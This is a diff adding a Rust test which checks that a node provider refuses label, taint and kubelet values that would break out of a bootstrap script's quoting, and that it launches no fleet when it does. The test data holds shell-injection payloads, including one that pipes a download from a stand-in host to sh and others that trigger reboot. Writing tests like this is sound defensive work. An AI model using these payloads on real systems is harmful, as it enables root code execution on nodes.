@@ -568,3 +568,59 @@ async fn without_the_users_data_each_family_bootstraps_alone() {
         );
     }
 }
+
+/// A label, taint or kubelet setting is written into a quoted argument of
+/// the bootstrap script: one with a quote in it would run as root on the
+/// node. The API server's rules refuse them in a NodePool or EC2NodeClass,
+/// but the provider cannot know they ran, so it refuses them itself, with
+/// INVALID_ARGUMENT naming the field, and launches nothing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn values_that_would_break_out_of_the_bootstrap_script_are_refused() {
+    let mut world = World::start().await;
+    let nc = node_class(&mut world, "al2@latest", None).await;
+    let fleets = |world: &World| world.proxy.with(|s| s.requests_of("ec2:CreateFleet").len());
+    let before = fleets(&world);
+
+    let mut labelled = claim("label-injection", &nc, "t4g");
+    labelled.labels.insert(
+        "example.com/team".into(),
+        "a' ; curl -s evil.example | sh ; '".into(),
+    );
+    let mut tainted = claim("taint-injection", &nc, "t4g");
+    tainted.taints[0].value = "$(reboot)".into();
+    let mut reserved = claim("kubelet-injection", &nc, "t4g");
+    let mut node_class = reserved.node_class.clone().expect("node class");
+    let mut spec: serde_json::Value = serde_json::from_str(&node_class.spec_json).expect("spec");
+    spec["kubelet"] = serde_json::json!({"evictionHard": {"memory.available": "5%' && reboot '"}});
+    node_class.spec_json = spec.to_string();
+    reserved.node_class = Some(node_class);
+
+    for (claim, field) in [
+        (labelled, "node_claim.labels[example.com/team]"),
+        (tainted, "node_claim.taints.value"),
+        (
+            reserved,
+            "node_claim.node_class.spec.kubelet.evictionHard[memory.available]",
+        ),
+    ] {
+        let name = claim.name.clone();
+        let refused = world
+            .client
+            .create(pb::CreateRequest {
+                node_claim: Some(claim),
+            })
+            .await
+            .expect_err("refused");
+        assert_eq!(
+            refused.code(),
+            tonic::Code::InvalidArgument,
+            "{name}: {refused:?}"
+        );
+        assert!(
+            refused.message().contains(field),
+            "{name}: the refusal names {field}: {}",
+            refused.message()
+        );
+    }
+    assert_eq!(fleets(&world), before, "nothing was launched");
+}
